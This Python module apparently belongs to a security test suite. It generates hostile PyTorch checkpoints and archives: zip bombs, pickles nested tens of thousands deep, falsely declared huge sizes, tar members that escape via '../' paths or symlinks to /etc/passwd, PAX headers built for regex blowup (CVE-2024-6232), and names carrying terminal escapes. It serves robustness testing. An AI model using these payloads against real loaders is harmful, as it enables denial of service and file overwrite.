"""Checkpoints and archives that cost more than they hold: bombs, nests, links and names (issue 15.12, 15.13)."""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
from collections.abc import Callable, Iterator

from hostile.payload import Case, Payload
from hostile.payloads.containers import STORAGE, benign, legacy, tarred, zipped
from hostile.payloads.opcodes import encode, tensor

__all__ = ["payloads"]


def _checkpoint(data: bytes) -> bytes:
    return zipped(
        [
            ("archive/data.pkl", data),
            ("archive/byteorder", b"little"),
            ("archive/data/0", STORAGE),
            ("archive/version", b"3\n"),
        ]
    )


def _nest(opening: bytes, closing: bytes, depth: int, core: bytes = b"N") -> bytes:
    return b"\x80\x04" + opening * depth + core + closing * depth + b"."


def _shared(width: int, depth: int) -> bytes:
    """A dictionary whose every value is the one before: width^depth ways through it."""
    out = b"\x80\x04}q\x00"
    for level in range(depth):
        out += (
            b"}("
            + b"".join(encode(f"k{n}") + b"h" + bytes([level]) for n in range(width))
            + b"u"
            + b"q"
            + bytes([level + 1])
        )
    return out + b"."


def _deep_key(kind: str, depth: int) -> bytes:
    """A key whose hash is asked for again and again: nested tuples, or frozensets of one object twice."""
    out = b"\x80\x04}" + b")q\x00"
    for level in range(depth):
        place = b"h" + bytes([level])
        out += (place * 2 + b"\x86" if kind == "tuple" else b"(" + place + b"\x91") + b"q" + bytes([level + 1])
    return out + b"N" + b"s."


def _state(entries: list[tuple[str, bytes]]) -> bytes:
    return b"\x80\x02}(" + b"".join(encode(name) + value for name, value in entries) + b"u."


def _tar(*members: tuple[str, bytes, str], pax: dict[str, str] | None = None) -> bytes:
    """A tar file of (name, type, link) with a good checkpoint at the end."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT, pax_headers=pax) as archive:
        for name, kind, link in members:
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, link
            archive.addfile(info)
        good = _checkpoint(benign())
        info = tarfile.TarInfo("model.pt")
        info.size = len(good)
        archive.addfile(info, io.BytesIO(good))
    return out.getvalue()


def _pax(text: bytes) -> bytes:
    """A tar file whose extended header is the given bytes (CVE-2024-6232: regular expressions that explode)."""
    info = tarfile.TarInfo("x")
    info.type, info.size = tarfile.XHDTYPE, len(text)
    head = info.tobuf(tarfile.USTAR_FORMAT)
    return head + text + bytes(-len(text) % 512) + tarred([("model.pt", _checkpoint(benign()))])


def _bomb(method: int, size: int, name: str = "archive/data/0") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.writestr("archive/data.pkl", benign())
        archive.writestr("archive/version", b"3\n")
        with archive.open(name, "w") as record:
            for _ in range(size >> 20):
                record.write(bytes(1 << 20))
    return out.getvalue()


def _overlapping(count: int) -> bytes:
    """Many directory entries for one record (a zip bomb by overlap)."""
    whole = zipped([("archive/data.pkl", benign()), ("archive/version", b"3\n"), ("archive/data/0", STORAGE)])
    place, end = whole.find(b"PK\1\2"), whole.rfind(b"PK\5\6")
    directory = whole[place:end]
    head = bytearray(whole[end:])
    struct.pack_into("<HHI", head, 8, min(3 * count, 65535), min(3 * count, 65535), len(directory) * count)
    return whole[:place] + directory * count + bytes(head)


def _lying(shape: tuple[int, ...], numel: int = 216) -> bytes:
    body = tensor(shape=shape).replace(encode(216), encode(numel))
    return b"\x80\x02}" + encode("conv.weight") + body + b"s."


REG, SYM, LNK, DIR, CHR, FIFO = tarfile.REGTYPE, tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.DIRTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE  # fmt: skip
_NAMES = ("\x1b]0;zq7x\x07", "../../zq7x", "a\0b", "<script>zq7x</script>", "module." * 30_000 + "w", "x" * 500_000, "[red]zq7x", "\u202ezq7x", "", "\n\r", "%s%n", "\udc80")  # fmt: skip

_PICKLES: dict[str, Callable[[], bytes]] = {
    "lists 100,000 deep": lambda: b"\x80\x04" + b"]" * 100_000 + b"a" * 99_999 + b".",
    "dictionaries 20,000 deep": lambda: b"\x80\x04" + (b"}" + encode("a")) * 20_000 + b"N" + b"s" * 20_000 + b".",
    "tuples 100,000 deep": lambda: _nest(b"", b"\x85", 100_000),
    "state_dict 1,000 deep": lambda: b"\x80\x04" + (b"}" + encode("state_dict")) * 1000 + b"N" + b"s" * 1000 + b".",
    "shared dictionaries 40^6": lambda: _shared(40, 6),
    "shared dictionaries 10^60": lambda: _shared(10, 60),
    "shared lists": lambda: (
        b"\x80\x04]q\x00"
        + b"".join(b"](" + b"h" + bytes([n]) * 1 + (b"h" + bytes([n])) * 9 + b"eq" + bytes([n + 1]) for n in range(60))
        + b"."
    ),
    "a key of tuples": lambda: _deep_key("tuple", 60),
    "a key of frozensets": lambda: _deep_key("frozenset", 60),
    "a key of tuples 50,000 deep": lambda: b"\x80\x04}" + b")" + b"\x85" * 50_000 + b"Ns.",
    "a list in itself": lambda: b"\x80\x04]q\x00h\x00a.",
    "a dictionary in itself": lambda: b"\x80\x04}q\x00" + encode("state_dict") + b"h\x00s.",
    "a number of 100,000 digits": lambda: b"\x80\x04I" + b"9" * 100_000 + b"\n.",
    "a number of 1 MB": lambda: b"\x80\x04\x8b" + struct.pack("<i", 1 << 20) + b"\x7f" * (1 << 20) + b".",
    "bytes of 4 GB declared": lambda: b"\x80\x04\x8e" + struct.pack("<Q", 1 << 32) + b"x.",
    "text of 2^62 declared": lambda: b"\x80\x04\x8d" + struct.pack("<Q", 1 << 62) + b"x.",
    "bytearray of 8 GB declared": lambda: b"\x80\x05\x96" + struct.pack("<Q", 1 << 33) + b"x.",
    "a frame of 2^60": lambda: b"\x80\x04\x95" + struct.pack("<Q", 1 << 60) + b"N.",
    "a memo of 2^31": lambda: b"\x80\x04Nr\xff\xff\xff\x7f.",
    "a memo of 10^9": lambda: b"\x80\x04Np999999999\n.",
    "1,000,000 puts": lambda: b"\x80\x04N" + b"\x94" * 1_000_000 + b".",
    "protocol 255": lambda: b"\x80\xffN.",
    "no stop": lambda: b"\x80\x04N",
    "an empty stack": lambda: b"\x80\x04.",
    "a mark only": lambda: b"\x80\x04(.",
    "1,000,000 marks": lambda: b"(" * 1_000_000 + b".",
    "100,000 names": lambda: b"\x80\x02" + b"".join(b"czq7x%d\nx\n0" % n for n in range(100_000)) + benign()[2:],
    "names with escapes": lambda: b"\x80\x02czq7x\x1b]0;x\x07\nsys\x1b[2Jtem\n)R.",
    "a name of 1 MB": lambda: b"\x80\x02c" + b"x" * (1 << 20) + b"\ny\n)R.",
    "names with NUL": lambda: b"\x80\x02ca\0b\nc\0d\n)R.",
    "a key that is a list's like": lambda: b"\x80\x04}" + b"ccollections\nUserDict\n)R" + b"Ns.",
    "frozenset of itself": lambda: b"\x80\x04(N\x91q\x00(h\x00\x91.",
    "complex 10^6 times": lambda: b"\x80\x02](" + b"cbuiltins\ncomplex\nJ\1\0\0\0J\1\0\0\0\x86R" * 20_000 + b"e.",
    "torch.Size of a huge list": lambda: b"\x80\x02ctorch\nSize\n((" + b"K\1" * 200_000 + b"ltR.",
    "torch.device zq7x": lambda: b"\x80\x02ctorch\ndevice\n" + encode(("meta",)) + b"R.",
    "a sparse tensor": lambda: (
        b"\x80\x02ctorch._utils\n_rebuild_sparse_tensor\n(ctorch\nsparse_coo\n("
        + tensor(shape=(1,))
        + tensor(shape=(1,))
        + encode((1 << 40,))
        + b"ttR."
    ),
    "a meta tensor": lambda: (
        b"\x80\x02ctorch._utils\n_rebuild_meta_tensor_no_storage\n(ctorch\nfloat32\n"
        + encode((1 << 20, 1 << 20))
        + encode((1, 1))
        + b"\x89tR."
    ),
    "a wrapper subclass": lambda: (
        b"\x80\x02ctorch._utils\n_rebuild_wrapper_subclass\n(ctorch\nTensor\nctorch\nfloat32\n"
        + encode((2,))
        + encode((1,))
        + encode(0)
        + b"ctorch\nstrided\n"
        + encode("cpu")
        + b"\x89tR."
    ),
    "a quantised tensor": lambda: b"\x80\x02ctorch._utils\n_rebuild_qtensor\n(" + tensor()[:-1] + b"R.",
    "a view over less": lambda: _lying((1 << 20, 1 << 20)),
    "a storage of 2^30": lambda: _lying((8, 3, 3, 3), 1 << 30),
    "a negative shape": lambda: _lying((-8, 3, 3, 3)),
    "zero input channels": lambda: _lying((8, 0, 3, 3)),
    "zero filters": lambda: _lying((0, 3, 3, 3)),
    "an expanded tensor": lambda: (
        b"\x80\x02}"
        + encode("c.weight")
        + tensor(shape=(1, 1, 1, 1)).replace(
            encode((1, 1, 1, 1)) + encode((1, 1, 1, 1)), encode((1 << 12, 1 << 10, 3, 3)) + encode((0, 0, 0, 0))
        )
        + b"s."
    ),
    "1,000 views of a storage": lambda: _state([(f"c{n}.weight", tensor(shape=(8, 3, 3, 3))) for n in range(1_000)]),
    "storage zq7x": lambda: benign().replace(b"cpu", b"cud").replace(encode("0"), encode("../../zq7x")),
    "storage of an absolute name": lambda: benign().replace(encode("0"), encode("/etc/passwd")),
    **{f"name {name[:12]!r}": (lambda name=name: _state([(f"{name}.weight", tensor())])) for name in _NAMES[:-1]},
}
_WHOLE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "zip bomb, deflated": (".pt", lambda: _bomb(zipfile.ZIP_DEFLATED, 320 << 20)),
    "zip bomb, bzip2": (".pt", lambda: _bomb(zipfile.ZIP_BZIP2, 64 << 20)),
    "zip bomb in data.pkl": (".pt", lambda: _bomb(zipfile.ZIP_DEFLATED, 320 << 20, "other/data.pkl")),
    "zip of overlapping entries": (".pt", lambda: _overlapping(5_000)),
    "zip of 60,000 records": (
        ".pt",
        lambda: zipped([("archive/data.pkl", benign()), *[(f"archive/{n}", b"") for n in range(60_000)]]),
    ),
    "zip without records": (".pt", lambda: zipped([])),
    "zip whose end lies": (".pt", lambda: _checkpoint(benign())[:-6] + b"\xff\xff\xff\xff\0\0"),
    "zip with paths": (".pt", lambda: zipped([("../../zq7x/data.pkl", benign()), ("/etc/zq7x", b"x")])),
    "zip truncated": (".pt", lambda: _checkpoint(benign())[:-30]),
    "zip start only": (".pt", lambda: b"PK\3\4"),
    "end record only": (".pt", lambda: b"PK\5\6" + bytes(18)),
    "zip64 of 2^60": (
        ".pt",
        lambda: (
            _checkpoint(benign())[:-22]
            + b"PK\6\6"
            + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, 1 << 60, 1 << 60, 1 << 60, 0)
            + b"PK\6\7"
            + struct.pack("<IQI", 0, 100, 1)
            + b"PK\5\6"
            + b"\xff" * 16
            + b"\0\0"
        ),
    ),
    "legacy, storages lie": (
        ".pt",
        lambda: legacy(benign()).replace(struct.pack("<q", 216), struct.pack("<q", 1 << 40)),
    ),
    "legacy, storages negative": (
        ".pt",
        lambda: legacy(benign()).replace(struct.pack("<q", 216), struct.pack("<q", -1)),
    ),
    "tar: parent": (".tar", lambda: _tar(("../../zq7x.pt", REG, ""))),
    "tar: absolute": (".tar", lambda: _tar(("/tmp/zq7x.pt", REG, ""))),
    "tar: symbolic link out (CVE-2007-4559)": (".tar", lambda: _tar(("x.pt", SYM, "/etc/passwd"))),
    "tar: hard link out": (".tar", lambda: _tar(("x.pt", LNK, "../../../etc/passwd"))),
    "tar: link then file (CVE-2025-4517)": (".tar", lambda: _tar(("d", SYM, ".."), ("d/zq7x.pt", REG, ""))),
    "tar: device": (".tar", lambda: _tar(("x.pt", CHR, ""))),
    "tar: pipe": (".tar", lambda: _tar(("x.pt", FIFO, ""))),
    "tar: folder called x.pt": (".tar", lambda: _tar(("x.pt", DIR, ""))),
    "tar: 200,000 members": (".tar", lambda: _tar(*[("x", REG, "")] * 20_000)),
    "tar: link to itself": (".tar", lambda: _tar(("x.pt", LNK, "x.pt"))),
    "tar: two checkpoints": (
        ".tar",
        lambda: tarred([("a.pt", _checkpoint(benign())), ("b.pt", _checkpoint(benign()))]),
    ),
    "tar in tar 50 deep": (".tar", lambda: _towers(50)),
    "tar: names with escapes": (".tar", lambda: _tar(("\x1b]0;zq7x\x07.pt", REG, ""))),
    "tar: sparse map (CVE-2024-6232)": (".tar", lambda: _pax(b"30 GNU.sparse.map=" + b"1," * 100_000 + b"\n")),
    "tar: PAX of digits": (".tar", lambda: _pax(b"1" * 200_000)),
    "tar: PAX of blanks": (".tar", lambda: _pax(b"9" + b" " * 200_000)),
    "tar: PAX of lengths": (".tar", lambda: _pax(b"".join(b"5 a=\n" for _ in range(100_000)))),
    "tar: PAX length 0": (".tar", lambda: _pax(b"0 path=zq7x\n" * 1000)),
    "tar: PAX encoding": (".tar", lambda: _pax(b"21 hdrcharset=BINARY\n" + b"13 path=\xff\xfe\xfd\n")),
    "tar: PAX sparse": (
        ".tar",
        lambda: _pax(
            b"22 GNU.sparse.major=1\n22 GNU.sparse.minor=0\n"
            + b"25 GNU.sparse.name=m.pt\n31 GNU.sparse.realsize=99999999\n"
        ),
    ),
    "tar: size of 2^60": (".tar", lambda: _pax(b"28 size=1152921504606846976\n")),
    "tar: base-256 negative size": (".tar", lambda: tarred([("m.pt", b"x")])[:124] + b"\xff" * 12 + bytes(1024)),
    "HTML": (".pt", lambda: b"<!DOCTYPE html><script>zq7x</script>"),
    "Git LFS": (".pt", lambda: b"version https://git-lfs.github.com/spec/v1\noid sha256:zq7x\nsize 1\n"),
    "a JSON error": (".pt", lambda: b'{"error": "zq7x \x1b[31m"}'),
    "zeros": (".pt", lambda: bytes(1 << 20)),
    "ELF": (".bin", lambda: b"\x7fELF" + bytes(200)),
    "HDF5 as pt": (".pt", lambda: b"\x89HDF\r\n\x1a\n" + bytes(500)),
    "one byte": (".pt", lambda: b"\x80"),
    "an ONNX called pt": (".pt", lambda: b"\x08\x08\x12\x04zq7x"),
}


def _towers(depth: int) -> bytes:
    data = _checkpoint(benign())
    for _ in range(depth):
        data = tarred([("m.tar", data)])
    return data


def payloads() -> Iterator[Payload]:
    """Pickles in both of torch's formats and plain, and whole files."""
    writers = {"zip": _checkpoint, "legacy": legacy, "plain": bytes}
    for name, make in _PICKLES.items():
        for form, wrap in writers.items():
            yield _payload(f"{name}, {form}", ".pt", lambda make=make, wrap=wrap: wrap(make()))
    for name, (suffix, make) in _WHOLE.items():
        yield _payload(name, suffix, make)


def _payload(name: str, suffix: str, make: Callable[[], bytes]) -> Payload:
    def write(case: Case) -> None:
        (case.folder / f"m{suffix}").write_bytes(make())

    return Payload(
        "structure",
        name,
        "issue 15.12, 15.13; CVE-2024-0450, CVE-2024-6232, CVE-2007-4559",
        write,
        f"m{suffix}",
        layers=1_000 if name.startswith(("1,000 convolutions", "1,000 views")) else 0,
    )
